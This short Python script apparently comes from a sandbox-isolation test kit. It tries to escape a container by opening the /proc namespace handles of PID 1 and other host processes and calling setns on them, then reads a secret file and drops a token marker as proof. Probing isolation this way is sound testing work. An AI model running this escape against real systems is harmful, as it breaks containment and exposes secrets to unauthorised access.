"""Enters the namespaces of processes outside."""

import ctypes
from kit import *

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, *HOST_PIDS):
    for kind in ("mnt", "net", "pid", "user", "ipc", "uts", "cgroup"):
        fd = attempt(lambda: os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY))
        if isinstance(fd, int):
            print(pid, kind, libc.setns(fd, 0))
    pidfd = attempt(lambda: os.pidfd_open(pid))
    if isinstance(pidfd, int):
        print(libc.setns(pidfd, 0x7E020000))
show(SECRET_FILE)
leave(f"{OPEN_DIR}/{TOKEN}")
